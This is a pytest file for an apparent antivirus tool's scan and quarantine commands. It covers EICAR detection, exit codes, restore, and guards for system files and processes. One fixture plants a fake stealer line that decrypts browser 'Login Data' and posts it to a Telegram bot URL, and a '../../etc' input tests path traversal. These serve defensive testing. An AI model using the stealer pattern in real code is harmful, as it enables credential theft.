"""`lamsach scan` and `lamsach quarantine` as run by a person."""

from __future__ import annotations

import os
import subprocess
import sys
from contextlib import suppress
from pathlib import Path

import psutil
import pytest

from lamsach.scanner.actions.guard import Guard, read_good
from lamsach.scanner.findings import Target, TargetKind
from tests.cli.command_runner import lamsach

from .planted import EICAR, target_of


@pytest.fixture
def planted(tmp_path: Path) -> Path:
    folder = tmp_path / "f"
    folder.mkdir()
    (folder / "bad.com").write_bytes(EICAR)
    (folder / "good.txt").write_text("good")
    return folder


def test_findings_are_written_and_left_in_place(planted: Path, tmp_path: Path) -> None:
    ran = lamsach("scan", planted, "--jobs", 0, "--no-nice", "-o", tmp_path / "r.html")
    assert ran.status == 0
    assert "test_file_eicar" in ran.out
    assert ran.out.splitlines()[-1].startswith(
        "lamsach-scan status=0 malicious=1 suspicious=0 risk=0 files=2 skipped=0"
    )
    assert (tmp_path / "r.html").exists()
    assert (planted / "bad.com").exists()


@pytest.mark.parametrize(("name", "status"), [("good.txt", 1), ("none", 5), ("locked.rar", 3)])
def test_the_status_reports_the_result_of_a_scan(planted: Path, name: str, status: int) -> None:
    (planted / "locked.rar").write_bytes(b"Rar!\x1a\x07\x01\0")
    assert lamsach("scan", planted / name, "--jobs", 0, "--no-nice").status == status


@pytest.mark.parametrize(
    "words",
    [
        ["--quick", "--full"],
        ["--yes"],
        ["-o", "x.pdf"],
        ["--since", "soon"],
        ["--clamd", "192.0.2.1:3310"],
        ["--language", "fr"],
    ],
)
def test_invalid_options_end_with_one_line(planted: Path, words: list[str]) -> None:
    ran = lamsach("scan", planted, *words)
    assert (ran.status, len(ran.errors), ran.out) == (2, 1, "")


def test_clean_list_and_undo(planted: Path) -> None:
    assert lamsach("quarantine", "list").status == 1
    plan = lamsach("scan", planted, "--jobs", 0, "--no-nice", "--quarantine")
    assert "Nothing was changed" in plan.out
    assert (planted / "bad.com").exists()
    assert (
        "second look does not find it"
        in lamsach("scan", planted, "--jobs", 0, "--no-nice", "--quarantine", "--yes").out
    )
    assert not (planted / "bad.com").exists()
    listed = lamsach("quarantine", "list").out
    identity = listed.split()[0]
    assert "bad.com" in listed
    assert lamsach("quarantine", "restore", identity).status == 0
    assert not (planted / "bad.com").exists()
    assert lamsach("quarantine", "restore", identity, "--yes").status == 0
    assert (planted / "bad.com").read_bytes() == EICAR
    assert lamsach("quarantine", "restore", identity, "--yes").status == 2
    assert lamsach("quarantine", "restore").status == 2
    assert lamsach("quarantine", "restore", "../../etc", "--yes").status == 2


def test_known_good_is_left_alone(planted: Path, tmp_path: Path) -> None:
    digest = target_of(planted / "bad.com").sha256
    (tmp_path / "good.txt").write_text(f"{digest}  bad.com\n")
    assert read_good([str(tmp_path / "good.txt")]) == {digest}
    ran = lamsach(
        "scan",
        planted,
        "--jobs",
        0,
        "--no-nice",
        "--quarantine",
        "--yes",
        "--known-good",
        tmp_path / "good.txt",
    )
    assert "known to be good" in ran.out
    assert (planted / "bad.com").exists()


def test_a_file_accused_only_by_a_rule_is_quarantined_only_by_name(tmp_path: Path) -> None:
    planted = tmp_path / "planted"
    planted.mkdir()
    script = planted / "collect.py"
    script.write_bytes(
        b"win32crypt.CryptUnprotectData(x); open('Login Data'); post('https://api.telegram.org/bot1:x')"
    )
    words = ("scan", planted, "--jobs", 0, "--no-nice", "--quarantine", "--yes")
    ran = lamsach(*words)
    assert "--take" in ran.out
    assert script.exists()
    digest = tmp_path / "list.txt"
    digest.write_text(target_of(script).sha256 + "\n")
    assert lamsach(*words, "--take", script).out.count(script.name) > 0
    assert not script.exists()
    script.write_bytes(
        b"win32crypt.CryptUnprotectData(y); open('Login Data'); post('https://api.telegram.org/bot1:x')"
    )
    digest.write_text(target_of(script).sha256 + "\n")
    lamsach(*words, "-i", digest)  # the list states its digest: that needs no name
    assert not script.exists()


@pytest.mark.skipif(sys.platform != "linux", reason="Linux paths")
@pytest.mark.parametrize(
    ("path", "refusal"),
    [
        ("/etc/passwd", "system_file"),
        ("/boot/vmlinuz", "system_file"),
        (sys.executable, None),
        ("/srv/x/own", "owned"),
        ("/usr/bin/own", "owned"),
        ("/srv/x/other", None),
    ],
)
def test_guard_of_files(tmp_path: Path, path: str, refusal: str | None) -> None:
    (tmp_path / "a.list").write_text("/.\n/srv/x/own\n/bin/own\n")
    guard = Guard(dpkg=tmp_path)
    found = guard.refusal(Target(TargetKind.FILE, path))
    assert found == refusal or (path == sys.executable and found in ("own_file", "owned", None))


@pytest.mark.skipif(sys.platform != "linux", reason="Linux paths")
def test_guard_of_another_systems_disk(tmp_path: Path) -> None:
    """A mounted disk or image.

    The files of its system are left alone, by its own list of packages.
    """
    disk = tmp_path / "disk"
    info = disk / "var/lib/dpkg/info"
    info.mkdir(parents=True)
    (info / "a.list").write_text("/.\n/usr/bin/own\n")
    packaged = [
        "etc/passwd", "etc/shadow", "etc/pam.d/common-auth", "etc/pam.conf",
        "etc/ssl/certs/ca-certificates.crt", "var/lib/dpkg/status", "var/lib/apt/lists/x",
        "etc/apt/sources.list", "etc/sudoers", "etc/sudoers.d/admin", "etc/systemd/system/x.service",
        "lib/systemd/system/ssh.service", "etc/nsswitch.conf", "etc/hosts",
        "lib/x86_64-linux-gnu/libnss_files.so.2", "usr/lib/security/pam_unix.so", "boot/vmlinuz",
        "usr/bin/own",
    ]  # fmt: skip
    windows = tmp_path / "windows"
    windows_files = [
        "Windows/System32/config/SAM", "Windows/explorer.exe", "bootmgr", "Boot/BCD", "EFI/Microsoft/x.efi",
        "pagefile.sys", "Users/an/NTUSER.DAT", "ProgramData/Microsoft/Crypto/RSA/x",
        "System Volume Information/x",
    ]  # fmt: skip
    expected = [
        disk / "tmp/x",
        disk / "usr/bin/other",
        disk / "home/an/Downloads/x",
        windows / "Windows/Temp/x.exe",
    ]
    expected.append(windows / "Users/an/Downloads/x.exe")
    places = [*(disk / path for path in packaged), *(windows / path for path in windows_files), *expected]
    for place in places:
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_bytes(b"x")
    guard = Guard(dpkg=tmp_path / "none")
    free = [place for place in places if guard.refusal(Target(TargetKind.FILE, str(place))) is None]
    assert free == expected


@pytest.mark.skipif(sys.platform != "linux", reason="Linux processes")
def test_guard_of_processes() -> None:
    guard = Guard()

    def refusal(pid: int, started: float = 0.0) -> str | None:
        return guard.refusal(Target(TargetKind.PROCESS, pid=pid, started=started))

    assert refusal(1) == "system_process"
    assert refusal(os.getpid()) == "system_process"
    assert refusal(os.getppid()) == "own_process"
    child = subprocess.Popen([sys.executable, "-c", "import signal; signal.pause()"])
    try:
        assert refusal(child.pid, psutil.Process(child.pid).create_time() + 100) == "gone"
    finally:
        child.kill()
        child.wait()
    assert refusal(child.pid) == "gone"


@pytest.mark.skipif(sys.platform != "linux", reason="Linux processes")
def test_stopping_a_process() -> None:
    from lamsach.scanner.actions.plan import is_gone, stop

    child = subprocess.Popen([sys.executable, "-c", "import signal; signal.pause()"])
    target = Target(TargetKind.PROCESS, pid=child.pid, started=psutil.Process(child.pid).create_time())
    other = Target(TargetKind.PROCESS, pid=child.pid, started=target.started - 50)
    stop(other)
    assert child.poll() is None
    stop(target)
    child.wait(5)
    assert is_gone(target)


@pytest.mark.skipif(sys.platform != "linux", reason="Linux signals")
def test_workers_end_with_the_scan(tmp_path: Path) -> None:
    import signal

    from tests.cli.command_runner import COMMAND
    from tests.poll import came

    for number in range(3000):
        (tmp_path / f"{number}").write_bytes(b"x" * 30_000)
    child = subprocess.Popen(
        [COMMAND, "scan", str(tmp_path), "--jobs", "2"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    process = psutil.Process(child.pid)
    workers: list[psutil.Process] = []

    def started() -> bool:
        workers[:] = process.children(recursive=True) or workers
        return len(workers) >= 3

    came(started, every=0.01, still=lambda: child.poll() is None)
    child.send_signal(signal.SIGKILL)
    child.wait()
    assert workers
    _, alive = psutil.wait_procs(workers, timeout=10)
    assert not alive


@pytest.mark.skipif(sys.platform != "linux", reason="Linux processes")
def test_a_program_that_runs_from_a_found_file_is_stopped_first(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import shutil

    from lamsach.scanner import full_scan
    from lamsach.scanner.actions.plan import carry_out, make_plan
    from lamsach.scanner.actions.vault import Vault
    from lamsach.scanner.options import Mode, Options

    program = tmp_path / "Downloads" / "bad"
    program.parent.mkdir()
    shutil.copy(shutil.which("sleep") or "/bin/sleep", program)
    (tmp_path / "list.txt").write_text(target_of(program).sha256 + "\n")
    # Not our child: the scan leaves its own processes alone.
    starter = (
        f"import subprocess; n = subprocess.DEVNULL; print(subprocess.Popen([{str(program)!r}, '60'], "
        "stdin=n, stdout=n, stderr=n).pid)"
    )
    started = subprocess.run([sys.executable, "-c", starter], capture_output=True, check=True, text=True)
    child = psutil.Process(int(started.stdout))
    monkeypatch.setattr(full_scan, "roots_of", lambda *_: [str(program)])
    try:
        options = Options(
            mode=Mode.QUICK, lists=[str(tmp_path / "list.txt")], jobs=0, nice=False, memory=False
        )
        result = full_scan.scan(options)
        steps = [
            step
            for step in make_plan(result, Guard())
            if step.target.pid == child.pid or step.target.path == str(program)
        ]
        assert [step.what for step in steps] == ["stop", "quarantine"]
        done = carry_out(steps, Vault(tmp_path / "quarantine"), Guard())
        assert [(step.gone, step.error) for step in done] == [(True, None)] * 2
        assert not program.exists()
    finally:
        with suppress(psutil.NoSuchProcess):
            child.kill()
